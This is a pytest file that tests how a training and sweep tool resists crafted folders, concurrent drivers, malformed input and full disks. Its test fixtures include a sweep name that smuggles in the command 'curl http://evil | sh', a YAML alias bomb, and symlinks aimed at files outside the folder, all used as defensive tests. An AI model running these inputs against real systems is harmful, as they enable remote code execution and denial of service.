"""Issue 11: crafted folders, concurrent drivers, hostile input, full disks.

Each test names its case (1-8 of the issue, "study" for the changed lr_study `train:` block) and
fails on the code before the fix. CLI behaviour is driven through the real command lines, like
tests/reliability/test_bad_input.py: bad input exits 2 with one line naming the field and the value, before
Ray starts and before anything is written; a machine failure (a full disk) exits 3.
"""

from __future__ import annotations

import copy
import json
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

import polars as pl
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml

from tests.helpers import SMOKE_SWEEP, assert_refused, cli_args, split_part, sweep_command, sweep_with
from trainer.config import ConfigError, load_yaml, parse_override
from trainer.safeio import EXIT_ENVIRONMENT, UnsafePath, safe_write, safe_write_bytes
from trainer.storage import ResultsDir

ROOT = Path(__file__).resolve().parents[2]
SMOKE_TRIAL = [
    "--smoke",
    "--set",
    "corpus=synthetic",
    "--set",
    "steps=20",
    "--set",
    "warmup=2",
    "--set",
    "eval_every=10",
]


def cli(module: str, *args, env, timeout: float = 120) -> tuple[subprocess.CompletedProcess, float]:
    t0 = time.monotonic()
    proc = subprocess.run(
        [sys.executable, "-m", module, *map(str, args)],
        capture_output=True,
        text=True,
        env=env,
        timeout=timeout,
        cwd=ROOT,
    )
    return proc, time.monotonic() - t0


def sweep_cli(config_text: str, tmp_path: Path, env, *extra, timeout: float = 60):
    config = tmp_path / "sweep.yaml"
    config.write_text(config_text)
    return cli("orchestrator.sweep", *cli_args(config, tmp_path / "results", *extra), env=env, timeout=timeout)


def one_line(proc, code: int = 2) -> str:
    err = proc.stderr
    assert proc.returncode == code, (proc.returncode, proc.stdout[-2000:], err[-3000:])
    assert "Traceback" not in err, err
    assert err.startswith("error: ") and err.count("\n") == 1, f"not one line:\n{err}"
    return err


def snapshot(folder: Path) -> dict:
    return {p: p.read_bytes() if p.is_file() else None for p in sorted(folder.rglob("*"))}


@pytest.fixture(scope="module")
def trial_results(tmp_path_factory):
    """One real standalone trial (synthetic corpus, 20 steps, a few seconds): a results folder to
    damage. Tests copy it before changing anything."""
    out = tmp_path_factory.mktemp("trial") / "trial"
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run(
        [sys.executable, "-m", "trainer.train", *SMOKE_TRIAL, "--out", str(out)],
        cwd=ROOT,
        env=env,
        check=True,
        capture_output=True,
        timeout=180,
    )
    return out


@pytest.fixture
def results(trial_results, tmp_path):
    import shutil

    copy_ = tmp_path / "sweep"
    shutil.copytree(trial_results, copy_, symlinks=True)
    return copy_


# ==== case 1: the report never writes outside its folder ==========================================


@pytest.mark.slow
def test_case1_report_refuses_a_symlinked_report_folder(results, tmp_path, env):
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep\n")
    (results / "report").symlink_to(victim)
    proc, _ = cli("analysis.report", results, env=env)
    err = one_line(proc)
    assert "symlink" in err and "report" in err
    assert sorted(p.name for p in victim.iterdir()) == ["keep.txt"]


@pytest.mark.slow
def test_case1_report_refuses_a_symlinked_summary_and_leaves_its_target_alone(results, tmp_path, env):
    target = tmp_path / "bashrc"
    target.write_text("original\n")
    (results / "report").mkdir()
    (results / "report" / "summary.md").symlink_to(target)
    proc, _ = cli("analysis.report", results, "--quiet", env=env)
    err = one_line(proc)
    assert "summary.md" in err and "symlink" in err
    assert target.read_text() == "original\n"
    assert not list((results / "report").glob(".*.tmp"))


@pytest.mark.slow
def test_case1_a_sweep_name_with_a_newline_is_refused_not_written(results, tmp_path, env):
    meta = json.loads((results / "sweep.json").read_text())
    meta["name"] = "x\ncurl http://evil | sh"
    (results / "sweep.json").write_text(json.dumps(meta))
    proc, _ = cli("analysis.report", results, "--out", tmp_path / "rep", env=env)
    err = one_line(proc)
    assert "sweep.json" in err and "name" in err
    assert not (tmp_path / "rep").exists()


def test_case1_results_writer_refuses_a_symlinked_folder_and_file(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    root = tmp_path / "sweep"
    root.mkdir()
    (root / "metrics").symlink_to(elsewhere)
    (root / "sweep.json").symlink_to(elsewhere / "stolen.json")
    results = ResultsDir(root)
    table = pa.table({"a": [1]})
    with pytest.raises(UnsafePath, match="symlink"):
        results.write_table(table, "metrics", "trial_id=x", "part.parquet")
    with pytest.raises(UnsafePath, match="symlink"):
        results.write_json({"a": 1}, "sweep.json")
    assert list(elsewhere.iterdir()) == []


def test_case1_safe_write_leaves_no_temporary_file_when_the_write_fails(tmp_path, monkeypatch):
    def fail(*_):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(OSError):
        safe_write_bytes(tmp_path / "summary.md", b"text")
    assert list(tmp_path.iterdir()) == []


def test_case1_a_table_written_as_it_is_produced_keeps_the_old_file_when_the_writer_fails(tmp_path):
    """safe_write streams a large table (collapse.csv) into a temporary file: a writer that fails
    half-way leaves the previous table whole and no temporary file."""
    table = tmp_path / "collapse.csv"
    table.write_text("old,table\n")

    def half_then_fail(f):
        f.write(b"new,rows\n" * 1000)
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        safe_write(table, half_then_fail)
    assert table.read_text() == "old,table\n"
    assert [p.name for p in tmp_path.iterdir()] == ["collapse.csv"]
    df = pl.DataFrame({"trial_id": ["a", "b"], "rate": [0.1, 0.25]})
    safe_write(table, df.write_csv)
    assert pl.read_csv(table).equals(df)


# ==== case 2: a standalone trial never clobbers a sweep or another trial ===========================


@pytest.mark.slow
def test_case2_two_trials_into_one_out_keep_both_rows_and_ids(tmp_path, env):
    out = tmp_path / "out"
    for seed in (0, 1):
        proc, _ = cli(
            "trainer.train",
            *SMOKE_TRIAL,
            "--set",
            "steps=6",
            "--set",
            "warmup=1",
            "--set",
            f"seed={seed}",
            "--out",
            out,
            env=env,
        )
        assert proc.returncode == 0, proc.stderr
    rows = pq.read_table(out / "trials.parquet").to_pylist()
    assert sorted(r["seed"] for r in rows) == [0, 1]
    meta = json.loads((out / "sweep.json").read_text())
    assert sorted(meta["trial_ids"]) == sorted(r["trial_id"] for r in rows) and meta["n_trials"] == 2


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["sweep", "lr_study"])
def test_case2_train_refuses_an_out_that_holds_a_sweep(results, env, kind):
    meta = json.loads((results / "sweep.json").read_text())
    meta.update(kind=kind, trial_ids=["a", "b"])
    (results / "sweep.json").write_text(json.dumps(meta))
    before = snapshot(results)
    proc, _ = cli("trainer.train", *SMOKE_TRIAL, "--set", "seed=7", "--out", results, env=env)
    err = one_line(proc)
    assert "out" in err and kind in err
    assert snapshot(results) == before


# ==== case 3: validation never hangs or exhausts memory ============================================

BILLION_LAUGHS = "".join(
    [f"a0: &a0 [{', '.join(['lol'] * 9)}]\n"]
    + [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9)]
    + ["name: smoke\ngrid: {width: *a8}\n"]
)


@pytest.mark.slow
def test_case3_a_yaml_alias_bomb_is_refused_quickly(tmp_path, env, ray_tmp):
    proc, elapsed = sweep_cli(BILLION_LAUGHS, tmp_path, env, timeout=60)
    assert_refused(proc, elapsed, ["alias"], ray_tmp)
    assert len(proc.stderr) < 400


def test_case3_loader_bounds_aliases_but_keeps_merge_keys(tmp_path):
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(BILLION_LAUGHS)
    with pytest.raises(ConfigError, match="alias"):
        load_yaml(bomb)
    ok = tmp_path / "ok.yaml"
    ok.write_text("base: &b {steps: 40, lr: 1e-3}\ntrain: {<<: *b, steps: 50}\n")
    assert load_yaml(ok)["train"] == {"steps": 50, "lr": 1e-3}


@pytest.mark.slow
@pytest.mark.parametrize("corpus", ["fifo", "/dev/zero", "/dev/urandom", "fifo_shard"])
def test_case3_a_device_or_fifo_corpus_is_refused_without_hanging(tmp_path, env, corpus):
    if corpus == "fifo":
        path = tmp_path / "corpus.txt"
        os.mkfifo(path)
    elif corpus == "fifo_shard":
        (tmp_path / "shards").mkdir()
        os.mkfifo(tmp_path / "shards" / "train.bin")
        path = tmp_path / "shards"
    else:
        path = Path(corpus)
        if not path.exists():
            pytest.skip(f"no {corpus}")
    proc, elapsed = cli(
        "trainer.train", "--smoke", "--set", f"corpus={path}", "--out", tmp_path / "out", env=env, timeout=60
    )
    err = one_line(proc)
    assert "corpus" in err and ("regular file" in err or "device" in err)
    assert not (tmp_path / "out").exists()


def test_case3_error_messages_cap_huge_values():
    from trainer.config import build_config

    with pytest.raises(ConfigError) as err:
        build_config({"optimizer": "x" * 100_000, "width": list(range(100_000))})
    assert len(str(err.value)) < 600


# ==== case 4: values that used to pass validation and crash later ===================================

TINY_CORPUS_TOKENS = 2 * (64 + 1)  # the smoke sweep's seq_len 64

CASE4 = {
    "seed 2**64": (dict(grid={"seed": [2**64]}), ["seed", str(2**64)]),
    "steps 1e20": (dict(train={"steps": 1e20}), ["steps", "1e+20"]),
    "threads 99999": (dict(train={"threads": 99999}), ["threads", "99999"]),
    "width 2**20": (dict(grid={"width": [2**20]}), ["width", str(2**20)]),
    "width 8192 needs too much memory": (
        dict(grid={"width": [8192]}, train={"d_head": 64, "depth": 64}),
        ["width=8192", "GiB"],
    ),
    "vocab_size 1e12": (dict(train={"vocab_size": 10**12}), ["vocab_size", str(10**12)]),
    "gpus_per_trial .inf": (dict(top={"resources": {"gpus_per_trial": float("inf")}}), ["gpus_per_trial", "inf"]),
    "name of 300 characters": (dict(top={"name": "n" * 300}), ["name", "nnnn"]),
    "device cuda without a GPU slot": (dict(train={"device": "cuda"}), ["device", "cuda"]),
    "corpus of 2 x (seq_len + 1) tokens": (
        dict(train={"corpus": "TINY", "val_fraction": 0.49}),
        ["corpus", "too small"],
    ),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", list(CASE4))
def test_case4_values_that_crashed_later_are_refused_before_anything_is_written(case, tmp_path, env, ray_tmp):
    changes, needles = copy.deepcopy(CASE4[case])
    if "cuda" in case:
        import torch

        if torch.cuda.is_available():
            pytest.skip("this machine has CUDA")
    if changes.get("train", {}).get("corpus") == "TINY":
        tiny = tmp_path / "tiny.txt"
        tiny.write_bytes(b"ab" * (TINY_CORPUS_TOKENS // 2))
        changes["train"]["corpus"] = str(tiny)
    text = yaml.safe_dump(yaml.safe_load(sweep_with(**changes)))
    if "inf" in case:
        assert ".inf" in text
    proc, elapsed = sweep_cli(text, tmp_path, env)
    assert_refused(proc, elapsed, needles, ray_tmp)
    assert not (tmp_path / "results").exists()


@pytest.mark.slow
def test_case4_shards_of_2_x_seq_len_plus_1_tokens_are_refused(tmp_path, env):
    import numpy as np

    (tmp_path / "shards").mkdir()
    (np.arange(TINY_CORPUS_TOKENS) % 200).astype(np.uint16).tofile(tmp_path / "shards" / "train.bin")
    proc, _ = cli(
        "trainer.train",
        "--smoke",
        "--set",
        f"corpus={tmp_path / 'shards'}",
        "--set",
        "val_fraction=0.49",
        "--out",
        tmp_path / "out",
        env=env,
    )
    assert "too small" in one_line(proc)
    assert not (tmp_path / "out").exists()


def test_case4_dry_run_skips_the_device_check(tmp_path):
    """--dry-run plans for the target cluster: it must not look at this machine's devices."""
    from orchestrator.options import SweepOptions
    from orchestrator.spec import SweepSpec, expand
    from orchestrator.spec.plan import plan_sweep
    from orchestrator.spec.prepare import check_placement
    from orchestrator.spec.validation import parse_model

    text = sweep_with(train={"device": "cuda"}, top={"resources": {"gpus_per_trial": 1}})
    config = tmp_path / "gpu.yaml"
    config.write_text(text)
    plan = plan_sweep(SweepOptions(config=str(config), results=str(tmp_path)))  # no error, whatever this machine has
    assert "GPU-hours" in plan
    spec = parse_model(SweepSpec, yaml.safe_load(text), "x")
    check_placement(expand(spec), spec, local=False)  # a cluster: its GPUs are not ours to see


# ==== case 5: one driver per results folder =========================================================


@pytest.mark.slow
def test_case5_a_second_driver_exits_2_naming_the_first(tmp_path, env):
    config = tmp_path / "smoke.yaml"
    spec = copy.deepcopy(SMOKE_SWEEP)
    spec["train"].update(corpus="synthetic", steps=400, warmup=4)  # long enough to overlap
    config.write_text(yaml.safe_dump(spec))
    results = tmp_path / "results"
    argv = sweep_command(config, results, "--local", "--num-cpus", "1", "--quiet")
    first = subprocess.Popen(argv, cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    lock = results / "smoke" / "driver.lock"
    try:
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline and not lock.exists() and first.poll() is None:
            time.sleep(0.2)
        assert lock.exists(), "the first driver never took the lock"
        holder = json.loads(lock.read_text())
        assert holder["pid"] == first.pid and holder["host"] == socket.gethostname()
        trials_before = (
            (results / "smoke" / "trials.parquet").read_bytes()
            if (results / "smoke" / "trials.parquet").exists()
            else None
        )
        second = subprocess.run(argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=120)
        err = one_line(second)
        assert f"pid {first.pid}" in err and socket.gethostname() in err
        assert first.poll() is None, "the first driver should still be running"
        if trials_before is not None:  # the second driver settled nothing of the first one's
            rows = pq.read_table(results / "smoke" / "trials.parquet").to_pylist()
            assert not any("interrupted" in (r.get("error") or "") for r in rows)
    finally:
        first.send_signal(signal.SIGINT)
        try:
            first.wait(timeout=120)
        except subprocess.TimeoutExpired:
            first.kill()
            first.wait()
    assert not lock.exists(), "the lock is released when the driver ends"


def _dead_pid() -> int:
    proc = subprocess.Popen([sys.executable, "-c", "pass"])
    proc.wait()
    return proc.pid


def test_case5_a_stale_lock_is_taken_over_with_a_message_and_a_live_one_refused(tmp_path, capsys):
    from orchestrator.tune.lock import LOCK_FILE, DriverLock, LockHeld

    results = ResultsDir(tmp_path / "sweep")
    results.makedirs()
    host = socket.gethostname()
    for stale, why in [
        ({"pid": _dead_pid(), "host": host, "heartbeat": time.time()}, "not running"),
        ({"pid": 1, "host": "elsewhere", "heartbeat": time.time() - 3600}, "heartbeat"),
    ]:
        (tmp_path / "sweep" / LOCK_FILE).write_text(json.dumps(stale))
        with DriverLock(results, "test", stream=sys.stdout) as lock:
            assert json.loads((tmp_path / "sweep" / LOCK_FILE).read_text())["token"] == lock.token
        assert why in capsys.readouterr().out
        assert not (tmp_path / "sweep" / LOCK_FILE).exists()
    live = {"pid": os.getppid(), "host": host, "heartbeat": time.time(), "command": "orchestrator.sweep"}
    (tmp_path / "sweep" / LOCK_FILE).write_text(json.dumps(live))
    with pytest.raises(LockHeld, match=f"pid {os.getppid()}"):
        DriverLock(results, "test").acquire()
    assert json.loads((tmp_path / "sweep" / LOCK_FILE).read_text()) == live


def test_case5_the_heartbeat_is_refreshed(tmp_path):
    from orchestrator.tune.lock import LOCK_FILE, DriverLock

    results = ResultsDir(tmp_path)
    with DriverLock(results, "test", heartbeat_s=0.1):
        first = json.loads((tmp_path / LOCK_FILE).read_text())["heartbeat"]
        time.sleep(0.5)
        assert json.loads((tmp_path / LOCK_FILE).read_text())["heartbeat"] > first


# ==== case 6: one line instead of a traceback ======================================================


def _planted_sweep(tmp_path: Path, sweep_json: bytes | None = None, trials: bytes | None = None) -> Path:
    folder = tmp_path / "results" / "smoke"
    folder.mkdir(parents=True)
    if sweep_json is not None:
        (folder / "sweep.json").write_bytes(sweep_json)
    if trials is not None:
        (folder / "trials.parquet").write_bytes(trials)
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("resume", [False, True])
@pytest.mark.parametrize("damaged", ["sweep.json", "trials.parquet"])
def test_case6_a_corrupt_sweep_json_or_trials_parquet_is_one_line(tmp_path, env, ray_tmp, damaged, resume):
    good = json.dumps({"name": "smoke", "kind": "sweep", "runs": []}).encode()
    folder = _planted_sweep(
        tmp_path,
        sweep_json=b"{not json" if damaged == "sweep.json" else good,
        trials=b"PAR1 garbage" if damaged == "trials.parquet" else None,
    )
    before = snapshot(folder)
    proc, elapsed = sweep_cli(sweep_with(), tmp_path, env, *(["--resume"] if resume else []))
    assert_refused(proc, elapsed, [damaged], ray_tmp)
    assert snapshot(folder) == before


def _tmpfs(path: Path, size: str = "2m") -> bool:
    path.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0:
        return False
    done = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True)
    return done.returncode == 0


@pytest.fixture
def full_disk(tmp_path):
    """A 2 MB tmpfs, nearly full (a filler file leaves ~150 KB); unmounted afterwards."""
    mount = tmp_path / "disk"
    if not _tmpfs(mount):
        pytest.skip("needs root and tmpfs to simulate a full disk")
    try:
        (mount / "filler").write_bytes(b"\0" * 1_900_000)
        yield mount
    finally:
        subprocess.run(["umount", "-l", str(mount)], capture_output=True)


@pytest.mark.slow
def test_case6_a_full_disk_during_a_trial_is_one_line_exit_3_and_no_tmp_left(full_disk, env):
    out = full_disk / "out"
    proc, _ = cli("trainer.train", "--smoke", "--set", "corpus=synthetic", "--out", out, env=env)
    err = one_line(proc, EXIT_ENVIRONMENT)
    assert "No space left on device" in err and "again" in err
    assert not list(full_disk.rglob("*.tmp"))
    if (out / "trials.parquet").exists():
        assert {r["status"] for r in pq.read_table(out / "trials.parquet").to_pylist()} != {"running"}


@pytest.mark.slow
def test_case6_a_full_disk_for_the_sweep_driver_is_one_line_exit_3_with_the_resume_hint(
    full_disk, tmp_path, env, ray_tmp
):
    try:  # fill it up entirely
        (full_disk / "filler2").write_bytes(b"\0" * (os.statvfs(full_disk).f_bavail * os.statvfs(full_disk).f_frsize))
    except OSError:
        pass
    config = tmp_path / "sweep.yaml"
    config.write_text(sweep_with(train={"corpus": "synthetic"}))
    proc, _ = cli("orchestrator.sweep", *cli_args(config, full_disk), env=env)
    err = one_line(proc, EXIT_ENVIRONMENT)
    assert "No space left on device" in err and "--resume" in err
    assert not list(full_disk.rglob("*.tmp"))
    assert not any(ray_tmp.iterdir()), "Ray was started"


@pytest.mark.slow
@pytest.mark.parametrize("storage", ["sqlite:///{tmp}/new/dirs/x.db", "not a url"])
def test_case6_a_bad_study_storage_is_refused_before_anything_is_created(tmp_path, env, ray_tmp, storage):
    spec = yaml.safe_load((ROOT / "sweeps" / "lr_smoke.yaml").read_text())
    spec["search"]["storage"] = storage.format(tmp=tmp_path)
    spec["train"]["corpus"] = "synthetic"
    config = tmp_path / "lr.yaml"
    config.write_text(yaml.safe_dump(spec))
    proc, elapsed = cli("orchestrator.lr_study", "--config", config, "--results", tmp_path / "results", env=env)
    assert_refused(proc, elapsed, ["search.storage"], ray_tmp)
    assert not (tmp_path / "results").exists() and not (tmp_path / "new").exists()


def test_case6_storage_check_refuses_in_memory_sqlite():
    from orchestrator.tune.study_storage import check_storage

    with pytest.raises(ConfigError, match="in-memory"):
        check_storage("sqlite://")


@pytest.mark.slow
def test_case6_a_symlink_loop_in_metrics_is_skipped_and_named(results, env):
    """A linked folder under metrics/ is never followed (a loop, or a link out of the results folder):
    each link is skipped and named as a linked part is, and the report is partial, not refused."""
    (results / "metrics" / "a").symlink_to(results / "metrics" / "b")
    (results / "metrics" / "b").symlink_to(results / "metrics" / "a")
    (results / "metrics" / "out").symlink_to(results.parent)  # out of the results folder
    proc, _ = cli("analysis.report", results, "--quiet", env=env)
    assert proc.returncode == 0 and "Traceback" not in proc.stderr, proc.stderr[-3000:]
    verdict = json.loads((results / "report" / "verdict.json").read_text())
    skipped = {Path(path).name: why for path, why in verdict["counts"]["skipped_files"]}
    assert verdict["partial"] and set(skipped) == {"a", "b", "out"}
    assert all("a symlink (to " in why and "not followed" in why for why in skipped.values())


@pytest.mark.slow
def test_case6_report_out_under_a_file_is_refused_before_the_analysis(results, tmp_path, env, monkeypatch):
    blocker = tmp_path / "file.txt"
    blocker.write_text("x")
    proc, _ = cli("analysis.report", results, "--out", blocker / "report", env=env)
    err = one_line(proc)
    assert str(blocker) in err and "file" in err
    # before the analysis: analyse() is never called
    from analysis import report as report_mod

    monkeypatch.setattr(report_mod, "analyse", lambda *a, **k: pytest.fail("analysed first"))
    assert report_mod.main([str(results), "--out", str(blocker / "report")]) == 2


# ==== case 7: gaps in a completed trial's metrics ==================================================


@pytest.mark.slow
def test_case7_a_missing_middle_part_makes_the_report_partial(results, tmp_path, env):
    (trial,) = (results / "metrics").iterdir()
    parts = split_part(trial)  # a finished trial holds one part: split it as a trial still running leaves them
    victim = parts[len(parts) // 2]
    victim.unlink()
    proc, _ = cli("analysis.report", results, "--out", tmp_path / "rep", "--quiet", env=env)
    assert proc.returncode == 0, proc.stderr
    verdict = json.loads((tmp_path / "rep" / "verdict.json").read_text())
    tid = pq.read_table(results / "trials.parquet").column("trial_id")[0].as_py()
    assert verdict["partial"] is True
    assert verdict["counts"]["incomplete_trials"] == [tid]


@pytest.mark.slow
def test_case7_an_intact_trial_is_complete(results, tmp_path, env):
    proc, _ = cli("analysis.report", results, "--out", tmp_path / "rep", "--quiet", env=env)
    assert proc.returncode == 0, proc.stderr
    verdict = json.loads((tmp_path / "rep" / "verdict.json").read_text())
    assert verdict["counts"]["incomplete_trials"] == [] and verdict["partial"] is False


# ==== case 8: smaller holes ========================================================================


@pytest.mark.slow
def test_case8_duplicate_yaml_keys_are_refused(tmp_path, env, ray_tmp):
    text = sweep_with() + "name: other\n"
    proc, elapsed = sweep_cli(text, tmp_path, env)
    assert_refused(proc, elapsed, ["duplicate key", "'name'"], ray_tmp)


@pytest.mark.slow
def test_case8_resume_refuses_a_tune_experiment_outside_the_results_folder(tmp_path, env, ray_tmp):
    meta = {"name": "smoke", "kind": "sweep", "runs": [{"tune_experiment": str(tmp_path / "evil" / "run-1")}]}
    folder = _planted_sweep(tmp_path, sweep_json=json.dumps(meta).encode())
    before = snapshot(folder)
    proc, elapsed = sweep_cli(sweep_with(), tmp_path, env, "--resume")
    assert_refused(proc, elapsed, ["tune_experiment", "evil", "outside"], ray_tmp)
    assert snapshot(folder) == before


@pytest.mark.parametrize("text", ["lr=0x1", "seed=010", "steps=1:30", "lr=0b1"])
def test_case8_set_refuses_non_decimal_numbers(text):
    with pytest.raises(ConfigError, match="not a decimal number"):
        parse_override(text)


def test_case8_set_keeps_exponent_floats():
    assert parse_override("lr=1e-3") == ("lr", 1e-3)
    assert parse_override("lr=3.0e-2") == ("lr", 3e-2)
    assert parse_override("width=64") == ("width", 64)


@pytest.mark.slow
@pytest.mark.parametrize(
    "change,needles",
    [
        (dict(grid={"lr": ["0.01"]}), ["lr", "'0.01'"]),
        (dict(grid={"width": [True]}), ["width", "True"]),
        (dict(train={"steps": "40"}), ["steps", "'40'"]),
        (dict(top={"resources": {"cpus_per_trial": True}}), ["cpus_per_trial", "True"]),
    ],
)
def test_case8_strings_and_bools_are_not_numbers(tmp_path, env, ray_tmp, change, needles):
    proc, elapsed = sweep_cli(sweep_with(**change), tmp_path, env)
    assert_refused(proc, elapsed, needles, ray_tmp)


@pytest.mark.slow
def test_case8_trainer_set_lr_0x1_exits_2(tmp_path, env):
    proc, _ = cli("trainer.train", "--smoke", "--set", "lr=0x1", "--out", tmp_path / "out", env=env)
    assert "0x1" in one_line(proc)
    assert not (tmp_path / "out").exists()


@pytest.mark.slow
def test_case8_negative_steps_in_a_part_are_flagged(results, tmp_path, env):
    part = sorted((results / "metrics").glob("*/*.parquet"))[-1]
    table = pq.read_table(part)
    steps = pa.array([-5] * table.num_rows, pa.int64())
    pq.write_table(table.set_column(table.schema.get_field_index("step"), "step", steps), part)
    proc, _ = cli("analysis.report", results, "--out", tmp_path / "rep", "--quiet", env=env)
    assert proc.returncode == 0, proc.stderr
    verdict = json.loads((tmp_path / "rep" / "verdict.json").read_text())
    skipped = dict(verdict["counts"]["skipped_files"])
    assert "negative step" in skipped[str(part)]
    assert verdict["partial"] is True and verdict["counts"]["incomplete_trials"]


# ==== also: a second lr_study with a changed train: block =========================================


@pytest.mark.slow
def test_study_a_changed_train_block_is_refused_naming_the_change(tmp_path, env, ray_tmp):
    from orchestrator.spec import LRStudySpec
    from orchestrator.spec.validation import parse_model

    spec = yaml.safe_load((ROOT / "sweeps" / "lr_smoke.yaml").read_text())
    spec["train"]["corpus"] = "synthetic"
    before_spec = copy.deepcopy(spec)
    before_spec["train"]["steps"] = 30
    resolved = parse_model(LRStudySpec, before_spec, "x").model_dump(mode="json")
    folder = tmp_path / "results" / "lr_smoke"
    folder.mkdir(parents=True)
    (folder / "sweep.json").write_text(json.dumps({"name": "lr_smoke", "kind": "lr_study", "config": resolved}))
    before = snapshot(folder)
    config = tmp_path / "lr.yaml"
    config.write_text(yaml.safe_dump(spec))
    proc, elapsed = cli("orchestrator.lr_study", "--config", config, "--results", tmp_path / "results", env=env)
    assert_refused(proc, elapsed, ["train.steps: 30 -> 40"], ray_tmp)
    assert snapshot(folder) == before
